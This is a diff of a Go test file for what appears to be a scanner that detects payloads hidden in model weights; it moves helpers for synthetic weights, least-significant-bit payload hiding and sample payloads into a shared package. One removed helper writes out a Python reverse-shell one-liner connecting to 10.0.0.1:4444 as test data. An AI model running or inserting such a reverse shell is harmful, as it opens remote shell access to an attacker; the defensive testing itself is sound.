@@ -5,85 +5,22 @@ import (
 	"context"
 	"encoding/binary"
 	"math"
-	"math/rand/v2"
 	"syscall"
 	"testing"
 
 	"github.com/aigis-dev/aigis/analyzer"
+	"github.com/aigis-dev/aigis/internal/testutil"
 	"github.com/aigis-dev/aigis/report"
 )
 
-// gaussF32 is n float32 weights drawn like an initialised or trained
-// layer (std 0.02), little-endian.
-func gaussF32(n int, seed uint64) []byte {
-	r := rand.New(rand.NewPCG(seed, 1))
-	b := make([]byte, 4*n)
-	for i := 0; i < n; i++ {
-		binary.LittleEndian.PutUint32(b[4*i:], math.Float32bits(float32(r.NormFloat64()*0.02)))
-	}
-	return b
-}
-
-// halfOrigin rounds float32 weights to bfloat16 precision, as a model
-// trained in bf16 and saved in fp32 is.
-func halfOrigin(b []byte) []byte {
-	for i := 0; i+4 <= len(b); i += 4 {
-		u := binary.LittleEndian.Uint32(b[i:])
-		binary.LittleEndian.PutUint32(b[i:], u&0xffff0000)
-	}
-	return b
-}
-
-// hideLSB writes payload into the k low bits of consecutive float32
-// elements starting at element start (EvilModel/StegoNet style).
-func hideLSB(b []byte, payload []byte, k, start int) {
-	bitsIn := 0
-	el := start
-	for bitsIn < 8*len(payload) {
-		u := binary.LittleEndian.Uint32(b[4*el:])
-		var v uint32
-		for j := 0; j < k && bitsIn < 8*len(payload); j++ {
-			bit := payload[bitsIn/8] >> (bitsIn % 8) & 1
-			v |= uint32(bit) << j
-			bitsIn++
-		}
-		u = u&^(1<<k-1) | v
-		binary.LittleEndian.PutUint32(b[4*el:], u)
-		el++
-	}
-}
-
-// textPayload looks like a script or source file.
-func textPayload(n int) []byte {
-	var b bytes.Buffer
-	for b.Len() < n {
-		b.WriteString("import os, socket, subprocess; s=socket.socket(); s.connect(('10.0.0.1', 4444)); subprocess.call(['/bin/sh', '-i'])\n")
-	}
-	return b.Bytes()[:n]
-}
-
-// elfPayload is an executable-looking blob: a header, code-like bytes and
-// zero padding.
-func elfPayload(n int) []byte {
-	b := make([]byte, n)
-	copy(b, "\x7fELF\x02\x01\x01\x00")
-	r := rand.New(rand.NewPCG(7, 7))
-	for i := 64; i < n; i++ {
-		if i%7 < 3 {
-			b[i] = byte(r.IntN(256))
-		}
-	}
-	return b
-}
-
-func randomPayload(n int) []byte {
-	b := make([]byte, n)
-	r := rand.New(rand.NewPCG(9, 9))
-	for i := range b {
-		b[i] = byte(r.IntN(256))
-	}
-	return b
-}
+var (
+	gaussF32      = testutil.GaussF32
+	halfOrigin    = testutil.HalfOrigin
+	hideLSB       = testutil.HideLSB
+	textPayload   = testutil.TextPayload
+	elfPayload    = testutil.ELFPayload
+	randomPayload = testutil.RandomPayload
+)
 
 func scanOne(t testing.TB, dt DType, data []byte) *analyzer.Result {
 	out := analyzer.NewResult(nil)
